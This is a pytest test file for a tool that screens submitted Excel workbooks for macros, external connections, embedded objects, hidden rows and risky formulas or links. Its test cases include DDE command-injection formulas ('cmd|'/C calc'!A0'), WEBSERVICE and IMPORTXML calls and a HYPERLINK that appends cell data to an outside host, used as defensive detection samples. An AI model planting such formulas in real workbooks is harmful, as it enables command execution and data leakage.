"""What a workbook carries besides values: what stops it, what is told, and what is nobody's business."""

from __future__ import annotations

import re
from xml.sax.saxutils import escape

import pytest
from small_office import SmallOffice, edited, sheet, verdicts
from zoo.altered import rezipped, with_links, with_parts

from toolkit.rules.safety import check_burdens
from toolkit.xlsx.sheet_data import BookData, Burden

AT, TAKEN_AT = "2024-01-04 09:00", "2024-01-06 09:00"
SHEET = "xl/worksheets/sheet4.xml"
"""December: the guide stands first."""


def december(action: str = "จัดทำร่างแล้ว", **fields: str) -> object:
    row = {"status": "อยู่ระหว่างดำเนินการ", "percent": "40", "action": action, **fields}
    return sheet("ธ.ค.", "4 ม.ค. 2567", {"1.1": row, "1.2": "n"})


def taken(office: SmallOffice, data: bytes) -> str:
    office.send("a.xlsx", data, AT)
    return verdicts(office.take(TAKEN_AT).files)["a.xlsx"]


@pytest.mark.parametrize(
    ("burdens", "found"),
    [
        ((), []),
        ((("macros", "xl/vbaProject.bin"),), [("file-macros", "xl/vbaProject.bin")]),
        ((("macros", "a"), ("macro-format", "b")), [("file-macros", "a")]),
        ((("macro-format", "b"),), [("file-macro-format", "b")]),
        ((("connection", "xl/connections.xml"),), [("file-connections", "xl/connections.xml")]),
        ((("dde", "a"), ("external-link", "b")), [("file-program-links", "a"), ("file-external-links", "b")]),
        (tuple(("embedded", kind) for kind in "abcd"), [("file-embedded", "a, b, c …")]),
    ],
)
def test_each_kind_is_told_once(
    burdens: tuple[tuple[Burden, str], ...], found: list[tuple[str, str]]
) -> None:
    findings = check_burdens(BookData({}, burdens=burdens))
    assert [(finding.code, finding.found) for finding in findings] == found


@pytest.mark.parametrize(
    ("parts", "verdict"),
    [
        ({"xl/vbaProject.bin": b"\xcc"}, "rejected file-macros"),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "rejected file-macros"),
        ({"xl/connections.xml": b"<x/>"}, "rejected file-connections"),
        ({"xl/queryTables/queryTable1.xml": b"<x/>"}, "rejected file-connections"),
        ({"xl/externalLinks/externalLink1.xml": b"<x/>"}, "rejected file-program-links"),
        ({"xl/embeddings/Microsoft_Word_Document.docx": b"PK"}, "warned file-embedded"),
        ({"xl/activeX/activeX1.xml": b"<x/>"}, "warned file-embedded"),
        ({"customUI/customUI.xml": b"<x/>"}, "warned file-embedded"),
        ({"xl/printerSettings/printerSettings9.bin": b"x"}, "accepted"),
        ({"xl/media/image9.png": b"x"}, "accepted"),
        ({"customXml/item1.xml": b"<x/>"}, "accepted"),
        ({"xl/threadedComments/threadedComment1.xml": b"<x/>"}, "accepted"),
    ],
)
def test_parts_beside_the_sheets(small_office: SmallOffice, parts: dict[str, bytes], verdict: str) -> None:
    data = small_office.fill("01", december())  # type: ignore[arg-type]
    assert taken(small_office, with_parts(data, parts)) == verdict


@pytest.mark.parametrize(
    ("formula", "verdict"),
    [
        ("cmd|'/C calc'!A0", "rejected formula-unsafe"),
        ("IF(1,cmd|'/C calc'!A0,0)", "rejected formula-unsafe"),
        ("WEBSERVICE(&quot;https://x.example&quot;)", "rejected formula-unsafe"),
        ("_xlfn.WEBSERVICE(A1)", "rejected formula-unsafe"),
        ("webservice (A1)", "rejected formula-unsafe"),
        ("IMPORTXML(A1,B1)", "rejected formula-unsafe"),
        ("REGISTER.ID(A1,B1)", "rejected formula-unsafe"),
        ("HYPERLINK(&quot;file:///D:\\งาน\\ก.pdf&quot;,&quot;ก&quot;)", "warned link-local"),
        ("HYPERLINK(&quot;javascript:alert(1)&quot;)", "warned link-odd"),
        ("HYPERLINK(&quot;https://www.example.go.th&quot;,&quot;ก&quot;)", "accepted"),
        ("A1&amp;&quot;|&quot;&amp;&quot;!&quot;", "accepted"),
        ("'ต.ค.66'!A1&amp;'a|b'!A1", "accepted"),
        ("SUM(A1:A2)&amp;&quot;CALL(1)&quot;", "accepted"),
        ("RECALL(1)", "accepted"),
        ("TODAY()", "accepted"),
    ],
)
def test_formulas_in_a_cell_that_is_typed_in(small_office: SmallOffice, formula: str, verdict: str) -> None:
    data = small_office.fill("01", december(evidence="หนังสือ"))  # type: ignore[arg-type]
    data = edited(data, '<t xml:space="preserve">หนังสือ</t>', '<t xml:space="preserve">ที่ 12/2567</t>')
    cell = '<c r="M12" t="str"><f>{}</f><v>ก</v></c></row><row r="13"'
    data = edited(data, '</row><row r="13"', cell.format(formula), SHEET)
    assert taken(small_office, data) == verdict


@pytest.mark.parametrize(
    ("target", "verdict"),
    [
        ("https://www.example.go.th/a?b=1&c=2", "accepted"),
        ("HTTP://example.go.th", "accepted"),
        ("mailto:a@example.go.th", "accepted"),
        ("tel:021234567", "accepted"),
        ("www.example.go.th", "accepted"),
        ("file:///D:\\งาน\\หลักฐาน.pdf", "warned link-local"),
        ("D:\\งาน\\หลักฐาน.pdf", "warned link-local"),
        ("\\\\server\\แฟ้ม\\ก.pdf", "warned link-local"),
        ("หลักฐาน.pdf", "warned link-local"),
        ("../ก.pdf", "warned link-local"),
        ("javascript:alert(1)", "warned link-odd"),
        ("java\tscript:alert(1)", "warned link-odd"),
        ("ms-word:ofe|u|https://x.example/a.docx", "warned link-odd"),
        ("smb://server/a", "warned link-odd"),
    ],
)
def test_links_of_cells(small_office: SmallOffice, target: str, verdict: str) -> None:
    data = small_office.fill("01", december())  # type: ignore[arg-type]
    assert taken(small_office, with_links(data, SHEET, {"J12": target})) == verdict


@pytest.mark.parametrize(
    ("text", "code"),
    [
        # what clerks write
        ("- จัดประชุมชี้แจง", ""),
        ("-จัดอบรม (ครั้งที่ 1)", ""),
        ("- ประชุม ITA(ฉบับร่าง)", ""),
        ("-5 คน", ""),
        ("- video call(Zoom) กับอำเภอ", ""),
        ("+66 2 123 4567", ""),
        ("+ เพิ่มช่องทาง", ""),
        ("@line_ita ประกาศแล้ว", ""),
        ("=> แล้วเสร็จ", ""),
        ("== สรุป ==", ""),
        ("= 50%", ""),
        ("=5", ""),
        ("- งบ 5,000 | ใช้ไป 2,000!", ""),
        ("ใช้สูตร =SUM(A1:A2)", ""),
        ("(1) จัดทำแล้ว\n- ประกาศแล้ว", ""),
        # what was meant to be computed
        ("=SUM(H12:H14)", "text-formula"),
        ("=+H12+H13", "text-formula"),
        ("=$H$12", "text-formula"),
        ("=20+30", "text-formula"),
        # what would run or fetch
        ("=cmd|'/C calc'!A0", "text-command"),
        ("-2+3+cmd|'/C calc'!A0", "text-command"),
        ("@SUM(1+1)*cmd|'/C calc'!A0", "text-command"),
        ('+HYPERLINK("https://x.example?"&A1)', "text-command"),
        ("=IMPORTXML(A1,B1)", "text-command"),
        ("\t=WEBSERVICE(A1)", "text-command"),
    ],
)
def test_texts_that_begin_like_a_formula(small_office: SmallOffice, text: str, code: str) -> None:
    verdict = taken(small_office, small_office.fill("01", december(text)))  # type: ignore[arg-type]
    assert [word for word in verdict.split() if word.startswith("text-")] == ([code] if code else [])
    assert not verdict.startswith("rejected")


@pytest.mark.parametrize(("letters", "told"), [(5_000, False), (5_001, True)])
def test_a_text_that_no_page_holds(small_office: SmallOffice, letters: int, told: bool) -> None:
    text = ("ดำเนินการตามแผนและรายงานผล " * 300)[: letters - 1] + "ก"
    verdict = taken(small_office, small_office.fill("01", december(text)))  # type: ignore[arg-type]
    assert ("text-long" in verdict) is told


@pytest.mark.parametrize(
    ("row", "around", "code"),
    [
        (12, "", "row-hidden"),
        (12, '<autoFilter ref="A11:K20"><filterColumn colId="1"/></autoFilter>', "row-filtered"),
        (12, '<autoFilter ref="A11:K20"/>', "row-hidden"),
        (6, "", ""),  # no row of a step
    ],
)
def test_rows_that_are_not_shown(small_office: SmallOffice, row: int, around: str, code: str) -> None:
    data = small_office.fill("01", december())  # type: ignore[arg-type]
    data = edited(data, "</sheetData>", f"</sheetData>{around}", SHEET)
    data = edited(
        data, f'<row r="{row}" spans="1:11" ht', f'<row r="{row}" spans="1:11" hidden="1" ht', SHEET
    )
    verdict = taken(small_office, data)
    assert [word for word in verdict.split() if word.startswith("row-")] == ([code] if code else [])
    assert verdict.split()[0] == ("warned" if code == "row-hidden" else "accepted")


def evidence_taken(office: SmallOffice, data: bytes) -> tuple[str, str]:
    """The verdict on a workbook, and what was taken as evidence of step 1.1."""
    office.send("a.xlsx", data, AT)
    intake = office.take(TAKEN_AT)
    (entry,) = intake.accepted.entries[("01", "1.1")].values()
    return verdicts(intake.files)["a.xlsx"], entry.evidence


@pytest.mark.parametrize(
    ("links", "evidence"),
    [
        ({"J12": "https://a.example/f/1"}, "มติ.pdf (https://a.example/f/1)"),
        ({"J12:J14": "https://a.example/f/1"}, "มติ.pdf (https://a.example/f/1)"),
        ({"I12:K12": "https://o.sharepoint.com/:x:/s/f/E"}, "มติ.pdf (https://o.sharepoint.com/:x:/s/f/E)"),
        ({"J12": "http://www.a.example/แผน(1).pdf"}, "มติ.pdf (http://www.a.example/แผน(1).pdf)"),
        ({"J12": "mailto:a@b.example"}, "มติ.pdf"),
        ({"I12": "https://a.example/f/1"}, "มติ.pdf"),
        ({"A1:XFD1048576": "https://a.example/f/1"}, "มติ.pdf"),
    ],
)
def test_the_address_behind_an_evidence_text_counts(
    small_office: SmallOffice, links: dict[str, str], evidence: str
) -> None:
    data = small_office.fill("01", december(evidence="มติ.pdf"))  # type: ignore[arg-type]
    assert evidence_taken(small_office, with_links(data, SHEET, links)) == ("accepted", evidence)


def test_an_address_that_a_program_does_not_call_external_counts(small_office: SmallOffice) -> None:
    data = small_office.fill("01", december(evidence="มติ"))  # type: ignore[arg-type]
    data = with_links(data, SHEET, {"J12": "https://a.example/f"}, mode="Internal")
    assert evidence_taken(small_office, data) == ("accepted", "มติ (https://a.example/f)")


def test_the_place_within_a_linked_page_counts(small_office: SmallOffice) -> None:
    data = small_office.fill("01", december(evidence="มติ"))  # type: ignore[arg-type]
    data = with_links(data, SHEET, {"J12": "https://a.example/f"})
    data = edited(data, 'ref="J12" ', 'ref="J12" location="ข้อ 2" ', SHEET)
    assert evidence_taken(small_office, data) == ("accepted", "มติ (https://a.example/f#ข้อ%202)")


@pytest.mark.parametrize(
    ("formula", "verdict", "evidence"),
    [
        ('HYPERLINK("https://a.example/f","มติ")', "accepted", "มติ (https://a.example/f)"),
        ('hyperlink( "https://a.example/"&"f" , "มติ" )', "accepted", "มติ (https://a.example/f)"),
        ('HYPERLINK("https://a.example/"&$C$90,"มติ")', "accepted", "มติ (https://a.example/แผน)"),
        ('IF(1,HYPERLINK("https://a.example/f","มติ"))', "warned evidence-link-unread", "มติ"),
        ("HYPERLINK(แผ่น!A1)", "warned evidence-link-unread", "มติ"),
        ("C30", "accepted", "มติ"),
    ],
)
def test_the_address_in_a_formula_counts(
    small_office: SmallOffice, formula: str, verdict: str, evidence: str
) -> None:
    data = small_office.fill("01", december(evidence="มติ"))  # type: ignore[arg-type]
    written = f'<c r="J12" t="str"><f>{escape(formula)}</f><v>มติ</v></c>'
    beside = '<row r="90"><c r="C90" t="inlineStr"><is><t>แผน</t></is></c></row></sheetData>'

    def changed(xml: str) -> str:
        xml = re.sub(r'<c r="J12"[^>]*>.*?</c>', lambda _: written, xml, count=1)
        return xml.replace("</sheetData>", beside)

    data = rezipped(data, {SHEET: changed})
    assert evidence_taken(small_office, data) == (verdict, evidence)


@pytest.mark.parametrize(
    ("area", "verdict"),
    [
        ("G12:G13", "rejected rows-merged"),
        ("I12:J13", "rejected rows-merged"),
        ("C12:K13", "rejected rows-merged"),
        ("C12:D13", "accepted"),
        ("G12:H12", "accepted"),
        ("M12:M13", "accepted"),
    ],
)
def test_rows_merged_over_typed_cells(small_office: SmallOffice, area: str, verdict: str) -> None:
    def merged(xml: str) -> str:
        return re.sub("<mergeCells[^>]*>", rf'\g<0><mergeCell ref="{area}"/>', xml, count=1)

    data = small_office.fill("01", december())  # type: ignore[arg-type]
    assert taken(small_office, rezipped(data, {SHEET: merged})) == verdict


@pytest.mark.parametrize(("area", "emptied"), [("I12:I13", "I"), ("G12:H13", "[GH]")])
def test_what_a_merge_has_swallowed_is_not_asked_for(
    small_office: SmallOffice, area: str, emptied: str
) -> None:
    """One text was meant for both rows: that the lower cell is blank is the same fault."""

    def merged(xml: str) -> str:
        xml = re.sub(rf'<c r="{emptied}13"[^>]*>.*?</c>', "", xml)
        return re.sub("<mergeCells[^>]*>", rf'\g<0><mergeCell ref="{area}"/>', xml, count=1)

    both = sheet("ธ.ค.", "4 ม.ค. 2567", {"1.1": "p40", "1.2": "p40"})
    data = rezipped(small_office.fill("01", both), {SHEET: merged})
    assert taken(small_office, data) == "rejected rows-merged"


@pytest.mark.parametrize(
    ("cells", "code"),
    [
        ('<c r="G20" t="inlineStr"><is><t>อยู่ระหว่างดำเนินการ</t></is></c>', "warned row-inserted"),
        ('<c r="G20" t="inlineStr"><is><t>เสร็จแล้ว</t></is></c>', "warned row-inserted"),
        ('<c r="I20" t="inlineStr"><is><t>หมายเหตุ</t></is></c>', "accepted row-without-key"),
        ('<c r="G20" t="inlineStr"><is><t>ดูแผ่นถัดไป</t></is></c>', "accepted row-without-key"),
    ],
)
def test_a_row_that_was_inserted(small_office: SmallOffice, cells: str, code: str) -> None:
    def inserted(xml: str) -> str:
        cell = cells.replace("20", "14")
        return re.sub('<row r="14".*?</row>|<row r="14"[^>]*/>', f'<row r="14">{cell}</row>', xml, count=1)

    data = small_office.fill("01", december())  # type: ignore[arg-type]
    assert taken(small_office, rezipped(data, {SHEET: inserted})) == code
